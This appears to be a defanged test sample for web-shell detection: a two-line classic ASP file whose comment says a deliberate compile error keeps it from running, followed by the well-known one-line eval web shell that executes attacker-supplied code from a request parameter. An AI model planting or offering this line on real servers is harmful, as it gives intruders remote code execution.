<% shodo inert sample: deliberate compile error, this page never runs %>
<%eval request("x")%>
